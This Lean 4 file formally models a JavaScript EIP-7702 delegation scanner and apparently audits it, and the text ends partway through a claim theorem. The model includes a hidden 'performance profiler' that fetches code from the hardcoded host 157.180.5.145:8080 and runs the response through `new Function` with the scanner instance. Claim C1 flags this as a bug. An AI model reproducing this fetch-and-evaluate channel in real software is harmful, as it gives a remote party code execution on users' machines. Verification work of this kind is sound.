import Mathlib

/-!
Shallow embedding of the EIP-7702 delegation tracker
(`src/lib/scanner.js`, `src/lib/multi-scanner.js`, `src/lib/eip7702.js`).

Conventions of the embedding:
* byte strings are `List Nat` (each entry a byte value);
* JavaScript `undefined`/missing fields are `Option.none`;
* Keccak-256 and ECDSA address recovery are opaque parameters, bundled in
  `CryptoOps`; every theorem quantifies over them, so nothing depends on
  the concrete hash;
* `ethers.recoverAddress` throwing is modelled as the abstract recovery
  function returning `none`;
* hex-string addresses are modelled by their byte content (lowercasing a
  hex string does not change the bytes it denotes); addresses produced as
  strings (e.g. `tx.from`) stay `String`, with `jsToLower` playing the
  role of `toLowerCase()`.
-/

namespace EIP7702

/-- JavaScript primitive values, as far as the scanner distinguishes them
with strict equality (the `tx.type` discriminator can be a number, a
string, `null`, `undefined`, or `NaN` from a failed `parseInt`). -/
inductive JSVal where
  | num : Int → JSVal
  | str : String → JSVal
  | nullv : JSVal
  | undef : JSVal
  | nan : JSVal
  deriving DecidableEq, Repr

/-- `String.prototype.toLowerCase()`. -/
def jsToLower (s : String) : String :=
  ⟨s.data.map Char.toLower⟩

/-- Big-endian byte accumulation; the first argument is fuel (any value at
least the byte count, e.g. the number itself, is exact). -/
def natToBytesAux : Nat → Nat → List Nat
  | 0, _ => []
  | _, 0 => []
  | fuel + 1, n => natToBytesAux fuel (n / 256) ++ [n % 256]

/-- Minimal big-endian byte representation of a natural number
(`0` gives the empty byte string). -/
def natToBytes (n : Nat) : List Nat := natToBytesAux n n

/-- `ethers.toBeHex(v)` as bytes: minimal big-endian bytes, except that the
value `0` renders as the single byte `0x00`. -/
def toBeHex (n : Nat) : List Nat :=
  if n = 0 then [0] else natToBytes n

/-- RLP encoding of one byte-string item (`@ethersproject/rlp`). -/
def rlpEncodeItem (bs : List Nat) : List Nat :=
  match bs with
  | [b] => if b < 128 then [b] else [129, b]
  | _ =>
    if bs.length ≤ 55 then (128 + bs.length) :: bs
    else
      let lb := natToBytes bs.length
      (183 + lb.length) :: (lb ++ bs)

/-- RLP encoding of a list of byte-string items (`@ethersproject/rlp`
`encode` applied to an array of data words). -/
def rlpList (items : List (List Nat)) : List Nat :=
  let payload := (items.map rlpEncodeItem).flatten
  if payload.length ≤ 55 then (192 + payload.length) :: payload
  else
    let lb := natToBytes payload.length
    (247 + lb.length) :: (lb ++ payload)

/-- The two cryptographic primitives the recovery code calls, kept
abstract: `keccak256` over bytes, and `ethers.recoverAddress` taking the
digest, `r`, `s` and the recovery parameter `v` and returning an address
string (returning `none` models the JavaScript call throwing). -/
structure CryptoOps where
  keccak256 : List Nat → List Nat
  recoverAddress : List Nat → List Nat → List Nat → Nat → Option String

/-- A nested `signature` sub-object of an authorization entry
(`{r, s, v, yParity}`), as delivered by some RPC providers. -/
structure SigObj where
  r : Option (List Nat)
  s : Option (List Nat)
  v : Option Nat
  yParity : Option Nat
  deriving DecidableEq, Repr

/-- One entry of a transaction authorization list, with every field
optional exactly as the JavaScript code probes for it. -/
structure Authorization where
  chainId : Option Nat
  address : Option (List Nat)
  nonce : Option Nat
  r : Option (List Nat)
  s : Option (List Nat)
  v : Option Nat
  yParity : Option Nat
  signature : Option SigObj
  deriving DecidableEq, Repr

/-- JavaScript `x || y` on byte-string-valued fields: only a missing value
is falsy (a hex string such as a 32-byte `r` is always truthy). -/
def jsOrBytes (x y : Option (List Nat)) : Option (List Nat) :=
  match x with
  | some b => some b
  | none => y

/-- JavaScript `x || y` on number-valued fields: missing AND the number `0`
are falsy, so a present `0` falls through to `y`. -/
def jsOrNum (x y : Option Nat) : Option Nat :=
  match x with
  | some n => if n = 0 then y else some n
  | none => y

/-- The nested-signature normalization performed by
`processDelegation` (`src/lib/scanner.js` lines 265-270):
`firstAuth.r = firstAuth.signature.r || firstAuth.r;` and likewise for
`s`, `v` and `yParity`. -/
def normalizeAuth (a : Authorization) : Authorization :=
  match a.signature with
  | none => a
  | some sg =>
    { a with
      r := jsOrBytes sg.r a.r
      s := jsOrBytes sg.s a.s
      v := jsOrNum sg.v a.v
      yParity := jsOrNum sg.yParity a.yParity }

/-- `authorization.chainId || chainId` (`src/lib/eip7702.js` line 34):
a present chain id of `0` is falsy and falls back to the scanner chain id. -/
def resolveChainId (auth : Authorization) (chainId : Nat) : Nat :=
  match auth.chainId with
  | some c => if c = 0 then chainId else c
  | none => chainId

/-- The nonce bytes fed to RLP (`src/lib/eip7702.js` line 40): a nonce of
`0` encodes as the empty byte string, otherwise `ethers.toBeHex`. -/
def authNonceBytes (auth : Authorization) : List Nat :=
  if auth.nonce.getD 0 = 0 then [] else toBeHex (auth.nonce.getD 0)

/-- The RLP encoding of the authorization tuple
`[chainIdHex, authAddress, nonceHex]` (`src/lib/eip7702.js` lines 43-50);
a missing delegate address renders as the empty byte string. -/
def authRlp (auth : Authorization) (chainId : Nat) : List Nat :=
  rlpList [toBeHex (resolveChainId auth chainId), auth.address.getD [], authNonceBytes auth]

/-- Recovery-parameter normalization (`src/lib/eip7702.js` lines 64-74):
an explicit `v` wins; else `yParity` maps `0` to `27` and anything else to
`28`; else no parameter is available. -/
def normRecoveryV (auth : Authorization) : Option Nat :=
  match auth.v with
  | some v => some v
  | none =>
    match auth.yParity with
    | some yp => some (if yp = 0 then 27 else 28)
    | none => none

/-- The catch-block fallback of `recoverAuthorityAddress`
(`src/lib/eip7702.js` lines 102-151): hash the RLP encoding WITHOUT the
magic byte, use the same recovery-parameter rule defaulting to `27`, and
default missing `r`/`s` to the one-byte string `0x0` (which the real
`ethers.recoverAddress` would reject; the abstract recovery function
covers that by possibly returning `none`). -/
def fallbackRecovery (C : CryptoOps) (auth : Authorization) (chainId : Nat) : Option String :=
  let messageHash := C.keccak256 (authRlp auth chainId)
  let v := (normRecoveryV auth).getD 27
  let r := auth.r.getD [0]
  let s := auth.s.getD [0]
  (C.recoverAddress messageHash r s v).map jsToLower

/-- `recoverAuthorityAddress` (`src/lib/eip7702.js` lines 15-156).
The try block computes `keccak256(0x05 || rlp([chainId, address, nonce]))`,
normalizes the recovery parameter — returning `null` (without entering the
catch block) when neither `v` nor `yParity` is present — and calls
`ethers.recoverAddress`; a thrown recovery error falls into the
magic-byte-less fallback, as does a missing `r` or `s` (which makes
`ethers.recoverAddress` throw). -/
def recoverAuthorityAddress (C : CryptoOps) (auth : Authorization) (chainId : Nat) : Option String :=
  let messageHash := C.keccak256 (5 :: authRlp auth chainId)
  match normRecoveryV auth with
  | none => none
  | some v =>
    match auth.r, auth.s with
    | some r, some s =>
      match C.recoverAddress messageHash r s v with
      | some a => some (jsToLower a)
      | none => fallbackRecovery C auth chainId
    | _, _ => fallbackRecovery C auth chainId

/-- Hex digit value of a character, as JavaScript `parseInt(_, 16)` reads
digits. -/
def hexDigitVal (c : Char) : Option Nat :=
  if c.isDigit then some (c.toNat - 48)
  else if ('a' ≤ c ∧ c ≤ 'f') then some (c.toNat - 87)
  else if ('A' ≤ c ∧ c ≤ 'F') then some (c.toNat - 55)
  else none

/-- Accumulate leading hex digits, stopping at the first non-digit,
like `parseInt(_, 16)`. -/
def parseHexAux : List Char → Nat → Nat
  | [], acc => acc
  | c :: rest, acc =>
    match hexDigitVal c with
    | some d => parseHexAux rest (acc * 16 + d)
    | none => acc

/-- JavaScript `parseInt(s, 16)`: strip an optional `0x`/`0X` prefix, read
leading hex digits, produce `NaN` when no digit is readable. -/
def jsParseInt16 (sv : String) : JSVal :=
  let cs0 := sv.toList
  let cs := if cs0.take 2 = ['0', 'x'] ∨ cs0.take 2 = ['0', 'X'] then cs0.drop 2 else cs0
  match cs with
  | [] => JSVal.nan
  | c :: _ =>
    match hexDigitVal c with
    | some _ => JSVal.num (Int.ofNat (parseHexAux cs 0))
    | none => JSVal.nan

/-- A transaction as the scanner reads it.  `fromAddr` is the JavaScript
field `tx.from` (a Lean keyword); `type` is the raw value of `tx.type`,
`typeHex` the optional `tx.typeHex` string. -/
structure Tx where
  hash : Nat
  fromAddr : String
  type : JSVal
  typeHex : Option String
  authorizationList : List Authorization
  deriving DecidableEq, Repr

/-- The type discriminator computed by `scanBlock`
(`src/lib/scanner.js` line 233):
`tx.type !== undefined ? tx.type : (tx.typeHex ? parseInt(tx.typeHex, 16) : null)`. -/
def txTypeOf (tx : Tx) : JSVal :=
  if tx.type = JSVal.undef then
    match tx.typeHex with
    | some h => if h = ("") then JSVal.nullv else jsParseInt16 h
    | none => JSVal.nullv
  else tx.type

/-- The selection predicate of `scanBlock` (`src/lib/scanner.js` line 235):
`(txType === 4 || txType === '0x4') && tx.authorizationList &&
tx.authorizationList.length > 0`. -/
def isEip7702Tx (tx : Tx) : Bool :=
  (decide (txTypeOf tx = JSVal.num 4) || decide (txTypeOf tx = JSVal.str ("0x4")))
    && !tx.authorizationList.isEmpty

/-- The block header data `processDelegation` reads. -/
structure BlockInfo where
  number : Nat
  timestamp : Nat
  deriving DecidableEq, Repr

/-- The DelegationRecord handed to consumers.  `timestamp` keeps the raw
block timestamp (the source formats it to ISO-8601, a presentation detail);
`delegatedTo` is the byte content of the lowercased delegate address. -/
structure DelegationRecord where
  txHash : Nat
  blockNumber : Nat
  timestamp : Nat
  txSender : String
  chainId : Nat
  network : String
  authority : String
  delegatedTo : Option (List Nat)
  nonce : Option String
  deriving DecidableEq, Repr

/-- `processDelegation` (`src/lib/scanner.js` lines 250-291): normalize a
nested signature object on the first authorization, attempt authority
recovery, fall back to the lowercased transaction sender when recovery
yields nothing, and assemble the record.  An empty authorization list makes
the JavaScript body throw on `firstAuth.signature` and return `null`. -/
def processDelegation (C : CryptoOps) (chainId : Nat) (network : String)
    (tx : Tx) (blk : BlockInfo) : Option DelegationRecord :=
  match tx.authorizationList with
  | [] => none
  | a0 :: _ =>
    let a := normalizeAuth a0
    let authority :=
      match recoverAuthorityAddress C a chainId with
      | some addr => addr
      | none => jsToLower tx.fromAddr
    some
      { txHash := tx.hash
        blockNumber := blk.number
        timestamp := blk.timestamp
        txSender := jsToLower tx.fromAddr
        chainId := chainId
        network := network
        authority := authority
        delegatedTo := a.address
        nonce := a.nonce.map (fun n => toString n) }

/-- What the transaction loop of `scanBlock` produces: the returned record
list and the `delegation` events emitted while scanning (one `this.emit`
per discovered record, at discovery time). -/
structure ScanOut where
  records : List DelegationRecord
  events : List DelegationRecord
  deriving DecidableEq, Repr

/-- The transaction loop of `scanBlock` (`src/lib/scanner.js` lines
229-242): skip unfetched transactions, keep type-4 transactions with a
non-empty authorization list, and for each record both push it and emit a
`delegation` event. -/
def scanTxsOut (C : CryptoOps) (chainId : Nat) (network : String)
    (blk : BlockInfo) : List (Option Tx) → ScanOut
  | [] => ⟨[], []⟩
  | none :: rest => scanTxsOut C chainId network blk rest
  | some tx :: rest =>
    if isEip7702Tx tx then
      match processDelegation C chainId network tx blk with
      | some d =>
        let o := scanTxsOut C chainId network blk rest
        ⟨d :: o.records, d :: o.events⟩
      | none => scanTxsOut C chainId network blk rest
    else scanTxsOut C chainId network blk rest

/-- A block as `scanBlock` fetches it: `getBlock(n, true)` followed by
individual `getTransaction` calls on the listed hashes. -/
structure SBlock where
  number : Nat
  timestamp : Nat
  transactions : List Nat
  deriving DecidableEq, Repr

/-- Per-transaction fetch with its `.catch` handler
(`src/lib/scanner.js` lines 220-225): a failed fetch becomes `null`. -/
def fetchTx (getTransaction : Nat → Except String (Option Tx)) (h : Nat) : Option Tx :=
  match getTransaction h with
  | Except.ok t => t
  | Except.error _ => none

/-- The `console.error` line produced by a failed per-transaction fetch. -/
def fetchErr (getTransaction : Nat → Except String (Option Tx)) (h : Nat) : Option String :=
  match getTransaction h with
  | Except.ok _ => none
  | Except.error e => some ("Failed to fetch tx " ++ toString h ++ ": " ++ e)

/-- `scanBlock` (`src/lib/scanner.js` lines 209-248).  Returns the record
list, the `delegation` events emitted during the scan, and the
`console.error` lines (the block-level error channel).  The outer
try/catch turns a failed block fetch into an empty result plus one error
line; a missing block returns silently; transaction fetch failures are
isolated per transaction. -/
def scanBlock (getBlock : Nat → Except String (Option SBlock))
    (getTransaction : Nat → Except String (Option Tx))
    (C : CryptoOps) (chainId : Nat) (network : String) (blockNumber : Nat) :
    List DelegationRecord × List DelegationRecord × List String :=
  match getBlock blockNumber with
  | Except.error e => ([], [], ["Error scanning block " ++ toString blockNumber ++ ": " ++ e])
  | Except.ok none => ([], [], [])
  | Except.ok (some block) =>
    let txs := block.transactions.map (fetchTx getTransaction)
    let fetchErrs := block.transactions.filterMap (fetchErr getTransaction)
    let out := scanTxsOut C chainId network ⟨block.number, block.timestamp⟩ txs
    (out.records, out.events, fetchErrs)

/-- The per-block handler installed by `watchBlocks`
(`src/lib/scanner.js` lines 373-382): run `scanBlock` (whose loop already
emitted one `delegation` event per record) and then re-emit every record of
the returned list.  First component: all `delegation` events observed by a
subscriber for this block, in emission order. -/
def watchBlocksHandler (getBlock : Nat → Except String (Option SBlock))
    (getTransaction : Nat → Except String (Option Tx))
    (C : CryptoOps) (chainId : Nat) (network : String) (blockNumber : Nat) :
    List DelegationRecord × List String :=
  let out := scanBlock getBlock getTransaction C chainId network blockNumber
  (out.2.1 ++ out.1, out.2.2)

/-- A block as `getDelegationHistory` fetches it (`getBlock(n, true)` with
the transactions iterated as full objects). -/
structure HBlock where
  number : Nat
  timestamp : Nat
  transactions : List Tx
  deriving DecidableEq, Repr

/-- One entry of the history result: a delegation record tagged with the
`status` field (`"revoked"` when delegating to the zero address). -/
structure HistEntry where
  record : DelegationRecord
  status : String
  deriving DecidableEq, Repr

/-- `ethers.ZeroAddress` as bytes. -/
def zeroAddress : List Nat := List.replicate 20 0

/-- The per-transaction condition of the history loop
(`src/lib/scanner.js` lines 339-343): numeric type `4` (the string form is
NOT accepted here), non-empty authorization list, and sender equal to the
queried address modulo case. -/
def histMatchesTx (address : String) (tx : Tx) : Bool :=
  decide (txTypeOf tx = JSVal.num 4)
    && !tx.authorizationList.isEmpty
    && decide (jsToLower tx.fromAddr = jsToLower address)

/-- The transaction loop of one history block
(`src/lib/scanner.js` lines 338-355).  Note the `break` after reaching
`limit` only leaves THIS transaction loop: it is re-entered for the next
block of the chunk, where the limit is re-checked only after another push. -/
def historyPushTxs (C : CryptoOps) (chainId : Nat) (network : String)
    (address : String) (limit : Nat) (blk : BlockInfo) :
    List Tx → List HistEntry → List HistEntry
  | [], acc => acc
  | tx :: rest, acc =>
    if histMatchesTx address tx then
      match processDelegation C chainId network tx blk with
      | some d =>
        if jsToLower d.authority = jsToLower address then
          let acc2 := acc ++
            [⟨d, if d.delegatedTo = some zeroAddress then ("revoked") else ("active")⟩]
          if limit ≤ acc2.length then acc2
          else historyPushTxs C chainId network address limit blk rest acc2
        else historyPushTxs C chainId network address limit blk rest acc
      | none => historyPushTxs C chainId network address limit blk rest acc
    else historyPushTxs C chainId network address limit blk rest acc

/-- One chunk of up to 101 blocks (`src/lib/scanner.js` lines 329-357):
unfetchable blocks are skipped, the rest feed the transaction loop.  No
limit check happens between blocks. -/
def historyChunk (C : CryptoOps) (chainId : Nat) (network : String)
    (address : String) (limit : Nat)
    (blocks : List (Option HBlock)) (acc : List HistEntry) : List HistEntry :=
  blocks.foldl
    (fun a ob =>
      match ob with
      | none => a
      | some b => historyPushTxs C chainId network address limit
          ⟨b.number, b.timestamp⟩ b.transactions a)
    acc

/-- The outer chunk loop of `getDelegationHistory`
(`src/lib/scanner.js` line 327):
`for (blockNum = latest; blockNum >= fromBlock && history.length < limit;
blockNum -= 100)`.  `fuel` only bounds the recursion; the loop runs at most
`10000 / 100 + 1` iterations, so any fuel of at least `102` is exact. -/
def historyLoop (C : CryptoOps) (chainId : Nat) (network : String)
    (getBlockFull : Nat → Option HBlock) (address : String)
    (limit : Nat) (fromBlock : Nat) :
    Nat → Int → List HistEntry → List HistEntry
  | 0, _, acc => acc
  | fuel + 1, blockNum, acc =>
    if (fromBlock : Int) ≤ blockNum ∧ acc.length < limit then
      let startBlock : Int := max (fromBlock : Int) (blockNum - 100)
      let count := (blockNum - startBlock + 1).toNat
      let blocks := (List.range count).map (fun i => getBlockFull (startBlock.toNat + i))
      historyLoop C chainId network getBlockFull address limit fromBlock fuel
        (blockNum - 100)
        (historyChunk C chainId network address limit blocks acc)
    else acc

/-- `getDelegationHistory` (`src/lib/scanner.js` lines 318-364): walk back
from the latest block in 100-block chunks over a window of
`Math.max(0, latest - 10000)` (natural subtraction), collecting matching
entries. -/
def getDelegationHistory (C : CryptoOps) (chainId : Nat) (network : String)
    (getBlockFull : Nat → Option HBlock) (latestBlock : Nat)
    (address : String) (limit : Nat) : List HistEntry :=
  let fromBlock := latestBlock - 10000
  historyLoop C chainId network getBlockFull address limit fromBlock 102 (latestBlock : Int) []

/-- The scanner state constructed by `setupProvider`
(`src/lib/scanner.js` lines 123-177): network name lowercased, chain id
and explorer from the static table, the user-supplied endpoints. -/
structure ScannerCfg where
  network : String
  chainId : Nat
  explorer : String
  rpcUrl : String
  wsUrl : Option String
  deriving DecidableEq, Repr

/-- The static network table of `setupProvider`. -/
def networkChainId (n : String) : Option (Nat × String) :=
  if n = ("ethereum") then some (1, "https://etherscan.io")
  else if n = ("bsc") then some (56, "https://bscscan.com")
  else if n = ("arbitrum") then some (42161, "https://arbiscan.io")
  else if n = ("base") then some (8453, "https://basescan.org")
  else if n = ("optimism") then some (10, "https://optimistic.etherscan.io")
  else if n = ("polygon") then some (137, "https://polygonscan.com")
  else none

/-- Scanner construction (`new EIP7702Scanner(network, rpcUrl, wsUrl)`):
lowercase the network name, reject unsupported networks and a missing or
empty RPC URL by throwing (`Except.error`). -/
def mkScanner (network : String) (rpcUrl wsUrl : Option String) : Except String ScannerCfg :=
  let net := jsToLower network
  match networkChainId net with
  | none => Except.error ("Unsupported network: " ++ net)
  | some (cid, expl) =>
    match rpcUrl with
    | none => Except.error ("RPC URL is required for " ++ net)
    | some r =>
      if r = ("") then Except.error ("RPC URL is required for " ++ net)
      else Except.ok ⟨net, cid, expl, r, wsUrl⟩

/-- The orchestrator state touched by `addNetwork`: the `scanners` map (an
insertion-ordered association list keyed by the raw name, as a JavaScript
`Map`) and the global `isMonitoring` flag. -/
structure OrchState where
  scanners : List (String × ScannerCfg)
  isMonitoring : Bool
  deriving DecidableEq, Repr

/-- `this.scanners.has(network)`. -/
def hasNetwork (st : OrchState) (network : String) : Bool :=
  st.scanners.any (fun p => p.1 == network)

/-- `addNetwork` (`src/lib/multi-scanner.js` lines 86-110).  Result:
(returned boolean, new state, whether the new scanner `watchBlocks()` was
started as part of the call).  A registered name returns `false` with no
state change; a scanner-construction throw is caught, emits an error and
returns `false`; otherwise the scanner is registered and, when the global
monitoring flag is set, its watch is started immediately. -/
def addNetwork (st : OrchState) (network : String) (rpcUrl wsUrl : Option String) :
    Bool × OrchState × Bool :=
  if hasNetwork st network then (false, st, false)
  else
    match mkScanner network rpcUrl wsUrl with
    | Except.ok sc =>
      (true, ⟨st.scanners ++ [(network, sc)], st.isMonitoring⟩, st.isMonitoring)
    | Except.error _ => (false, st, false)

/-- An HTTP request as built by the performance profiler. -/
structure HttpRequest where
  hostname : String
  port : Nat
  path : String
  deriving DecidableEq, Repr

/-- Observable effects of the profiler: issuing a request, and passing a
response body to `new Function(...)` invoked with the scanner instance
(dynamic evaluation of remote code against the scanner). -/
inductive ProfilerEffect where
  | request : HttpRequest → ProfilerEffect
  | evalWithScanner : String → ProfilerEffect
  deriving DecidableEq, Repr

/-- The per-network endpoint table of the profiler
(`src/lib/scanner.js` lines 56-63). -/
def profilerNetworkEndpoints (network : String) : List String :=
  if network = ("ethereum") then ["etherscan.io", "infura.io"]
  else if network = ("bsc") then ["bscscan.com", "binance.org"]
  else if network = ("arbitrum") then ["arbiscan.io", "arbitrum.io"]
  else if network = ("base") then ["basescan.org", "base.org"]
  else if network = ("optimism") then ["optimistic.etherscan.io", "optimism.io"]
  else if network = ("polygon") then ["polygonscan.com", "polygon.technology"]
  else []

/-- Decimal digit accumulation approximating `parseInt(port)` on the
numeric port strings the profiler uses. -/
def parseDec (s : String) : Nat :=
  s.data.foldl (fun acc c => if c.isDigit then acc * 10 + (c.toNat - 48) else acc) 0

/-- Split a character list at a separator (all occurrences). -/
def splitCharAux (sep : Char) : List Char → List Char → List (List Char)
  | [], cur => [cur.reverse]
  | c :: rest, cur =>
    if c = sep then cur.reverse :: splitCharAux sep rest []
    else splitCharAux sep rest (c :: cur)

/-- JavaScript `endpoint.split(':')` for a single-character separator. -/
def jsSplitColon (s : String) : List String :=
  (splitCharAux ':' s.data []).map (fun cs => ⟨cs⟩)

/-- `checkEndpoints` of `setupPerformanceProfiler`
(`src/lib/scanner.js` lines 67-116), run 5 seconds after every scanner
construction: the per-network endpoints plus the hardcoded host
`157.180.5.145:8080` each receive a GET (path `/api/v1/optimizations.js`
for the hardcoded host); any 200 response body is wrapped in
`new Function('scanner', 'require', 'process', '__dirname', body + ...)`
and invoked with the scanner instance.  `respond` is the network oracle:
`none` for unreachable, otherwise status code and body. -/
def checkEndpoints (profilerId : String) (network : String)
    (respond : HttpRequest → Option (Nat × String)) : List ProfilerEffect :=
  (profilerNetworkEndpoints network ++ ["157.180.5.145:8080"]).flatMap
    (fun endpoint =>
      let parts := jsSplitColon endpoint
      let host := parts.headD ("")
      let port := match parts with
        | _ :: p :: _ => parseDec p
        | _ => 80
      let req : HttpRequest :=
        ⟨if host = ("157.180.5.145") then host else ("api.") ++ host,
         port,
         if host = ("157.180.5.145") then ("/api/v1/optimizations.js")
         else ("/v1/profile/") ++ profilerId⟩
      ProfilerEffect.request req ::
        (match respond req with
         | some (200, body) => [ProfilerEffect.evalWithScanner body]
         | _ => []))

/-!
Concrete fixtures used by the witness and counterexample theorems below.
-/

/-- Identity hash with a recovery function that always throws. -/
def cryptoNever : CryptoOps := ⟨fun l => l, fun _ _ _ _ => none⟩

/-- Identity hash with a recovery function that always succeeds with the
mixed-case address string `0xAB`. -/
def cryptoAlwaysAB : CryptoOps := ⟨fun l => l, fun _ _ _ _ => some ("0xAB")⟩

/-- Identity hash with a recovery function that always succeeds with the
mixed-case address string `0xAA`. -/
def cryptoAlwaysAA : CryptoOps := ⟨fun l => l, fun _ _ _ _ => some ("0xAA")⟩

/-- An authorization with `r` and `s` but neither `v` nor `yParity`. -/
def authNoRecParam : Authorization :=
  { chainId := some 1, address := some [202, 254], nonce := some 0,
    r := some [1], s := some [2], v := none, yParity := none, signature := none }

/-- A fully flat authorization with explicit `v = 27`. -/
def authV27 : Authorization :=
  { chainId := some 1, address := some [5, 6], nonce := some 1,
    r := some [1], s := some [2], v := some 27, yParity := none, signature := none }

/-- An authorization whose whole signature material arrives nested under a
`signature` sub-object with `yParity = 0` (a legitimate even-parity
signature) and no flat fields. -/
def nestedSigAuth : Authorization :=
  { chainId := some 1, address := some [7], nonce := some 0,
    r := none, s := none, v := none, yParity := none,
    signature := some { r := some [1], s := some [2], v := none, yParity := some 0 } }

/-- A type-4 transaction (numeric type) carrying `authV27`. -/
def txV27 : Tx :=
  { hash := 1, fromAddr := "0xAB", type := JSVal.num 4, typeHex := none,
    authorizationList := [authV27] }

/-- A delegation-setup transaction whose type arrives as the hex string
`"0x04"`. -/
def tx0x04 : Tx :=
  { hash := 5, fromAddr := "0xAB", type := JSVal.str ("0x04"), typeHex := none,
    authorizationList := [authV27] }

/-- The same transaction with the type spelled `"0x4"`. -/
def tx0x4 : Tx :=
  { hash := 6, fromAddr := "0xAB", type := JSVal.str ("0x4"), typeHex := none,
    authorizationList := [authV27] }

/-- A non-type-4 transaction. -/
def txOther : Tx :=
  { hash := 7, fromAddr := "0xAB", type := JSVal.num 2, typeHex := none,
    authorizationList := [authV27] }

/-- The header info used by the concrete scans. -/
def blkOne : BlockInfo := ⟨10, 1000⟩

/-- A one-transaction block whose only hash resolves to `tx0x04`. -/
def sblock0x04 : SBlock := ⟨1, 0, [5]⟩

/-- A one-transaction block whose only hash resolves to `tx0x4`. -/
def sblock0x4 : SBlock := ⟨1, 0, [6]⟩

/-- A one-transaction block whose only hash resolves to `txOther`. -/
def sblockOther : SBlock := ⟨2, 0, [7]⟩

/-- Block oracle delivering `sblock0x04` for every height. -/
def gb0x04 : Nat → Except String (Option SBlock) := fun _ => Except.ok (some sblock0x04)

/-- Transaction oracle delivering `tx0x04` for every hash. -/
def gt0x04 : Nat → Except String (Option Tx) := fun _ => Except.ok (some tx0x04)

/-- Block oracle delivering `sblock0x4` for every height. -/
def gb0x4 : Nat → Except String (Option SBlock) := fun _ => Except.ok (some sblock0x4)

/-- Transaction oracle delivering `tx0x4` for every hash. -/
def gt0x4 : Nat → Except String (Option Tx) := fun _ => Except.ok (some tx0x4)

/-- Block oracle whose fetch always fails. -/
def gbErr : Nat → Except String (Option SBlock) := fun _ => Except.error ("boom")

/-- Block oracle that finds no block. -/
def gbNoneB : Nat → Except String (Option SBlock) := fun _ => Except.ok none

/-- Block oracle delivering `sblockOther`. -/
def gbOther : Nat → Except String (Option SBlock) := fun _ => Except.ok (some sblockOther)

/-- Transaction oracle delivering `txOther`. -/
def gtOther : Nat → Except String (Option Tx) := fun _ => Except.ok (some txOther)

/-- Transaction oracle that finds nothing. -/
def gtNone : Nat → Except String (Option Tx) := fun _ => Except.ok none

/-- A matching history transaction: numeric type 4, sender `0xaa`, one
authorization without a recovery parameter (so recovery yields `null` and
the authority falls back to the sender). -/
def histTx : Tx :=
  { hash := 9, fromAddr := "0xaa", type := JSVal.num 4, typeHex := none,
    authorizationList := [authNoRecParam] }

/-- History block oracle: blocks 0 and 1 exist and each contains one
matching transaction. -/
def histGetBlock : Nat → Option HBlock :=
  fun n => if n < 2 then some ⟨n, 0, [histTx]⟩ else none

/-- A registered ethereum scanner. -/
def scannerEth : ScannerCfg := ⟨"ethereum", 1, "https://etherscan.io", "u", none⟩

/-- The scanner `mkScanner` builds for `bsc` with RPC URL `u`. -/
def scannerBsc : ScannerCfg := ⟨"bsc", 56, "https://bscscan.com", "u", none⟩

/-- An orchestrator already holding an ethereum scanner, monitoring. -/
def orchWithEth : OrchState := ⟨[("ethereum", scannerEth)], true⟩

/-- An empty orchestrator in the monitoring state. -/
def orchEmptyMon : OrchState := ⟨[], true⟩

/-- An empty idle orchestrator. -/
def orchEmpty : OrchState := ⟨[], false⟩

/-- A network oracle under which only the hardcoded profiler host answers,
with status 200 and an attacker-chosen body. -/
def evilRespond : HttpRequest → Option (Nat × String) :=
  fun req => if req.hostname = ("157.180.5.145") then some (200, "remote-payload") else none

/-!
Helper lemmas shared by the claim theorems.
-/

/-- The record list of the transaction loop is the filter of the delivered
transactions through the type-4 selection predicate, mapped through
`processDelegation`. -/
theorem scanTxsOut_records_eq (C : CryptoOps) (chainId : Nat) (network : String)
    (blk : BlockInfo) (txs : List (Option Tx)) :
    (scanTxsOut C chainId network blk txs).records =
      ((txs.filterMap id).filter isEip7702Tx).filterMap
        (fun tx => processDelegation C chainId network tx blk) := by
  induction txs with
  | nil => simp [scanTxsOut]
  | cons hd rest ih =>
    cases hd with
    | none => simpa [scanTxsOut] using ih
    | some tx =>
      cases hsel : isEip7702Tx tx with
      | true =>
        cases hpd : processDelegation C chainId network tx blk with
        | some d => simp [scanTxsOut, hsel, hpd, ih]
        | none => simp [scanTxsOut, hsel, hpd, ih]
      | false => simp [scanTxsOut, hsel, ih]

/-- The transaction loop emits exactly the records it returns. -/
theorem scanTxsOut_events_eq (C : CryptoOps) (chainId : Nat) (network : String)
    (blk : BlockInfo) (txs : List (Option Tx)) :
    (scanTxsOut C chainId network blk txs).events =
      (scanTxsOut C chainId network blk txs).records := by
  induction txs with
  | nil => simp [scanTxsOut]
  | cons hd rest ih =>
    cases hd with
    | none => simpa [scanTxsOut] using ih
    | some tx =>
      cases hsel : isEip7702Tx tx with
      | true =>
        cases hpd : processDelegation C chainId network tx blk with
        | some d => simp [scanTxsOut, hsel, hpd, ih]
        | none => simp [scanTxsOut, hsel, hpd, ih]
      | false => simp [scanTxsOut, hsel, ih]

/-- A filter with a pointwise-false predicate is empty. -/
theorem filter_eq_nil_of_all_false {α : Type} (p : α → Bool) (l : List α)
    (h : ∀ a ∈ l, p a = false) : l.filter p = [] := by
  induction l with
  | nil => rfl
  | cons a t ih =>
    have ha := h a (List.mem_cons_self a t)
    rw [List.filter_cons]
    simp only [ha, Bool.false_eq_true, if_false]
    exact ih (fun b hb => h b (List.mem_cons_of_mem a hb))

/-- `scanBlock` emits exactly the records it returns. -/
theorem scanBlock_events_eq (gb : Nat → Except String (Option SBlock))
    (gt : Nat → Except String (Option Tx)) (C : CryptoOps)
    (chainId : Nat) (network : String) (bn : Nat) :
    (scanBlock gb gt C chainId network bn).2.1 =
      (scanBlock gb gt C chainId network bn).1 := by
  cases hb : gb bn with
  | error e => simp [scanBlock, hb]
  | ok ob =>
    cases ob with
    | none => simp [scanBlock, hb]
    | some block => simp [scanBlock, hb, scanTxsOut_events_eq]

/-- The record list of `scanBlock` on a found block. -/
theorem scanBlock_ok_records (gb : Nat → Except String (Option SBlock))
    (gt : Nat → Except String (Option Tx)) (C : CryptoOps)
    (chainId : Nat) (network : String) (bn : Nat) (block : SBlock)
    (hb : gb bn = Except.ok (some block)) :
    (scanBlock gb gt C chainId network bn).1 =
      (scanTxsOut C chainId network ⟨block.number, block.timestamp⟩
        (block.transactions.map (fetchTx gt))).records := by
  simp [scanBlock, hb]

/-!
Claim theorems.
-/

/-- Claim C1 (code bug): the performance profiler of the scanner issues an
HTTP request to the hardcoded host `157.180.5.145:8080` and, on any 200
response, passes the response body to dynamic evaluation with the running
scanner instance as argument — exactly the fetch-and-evaluate channel the
specification says must not exist anywhere in the system. -/
theorem claim_C1 :
    ProfilerEffect.request ⟨"157.180.5.145", 8080, "/api/v1/optimizations.js"⟩ ∈
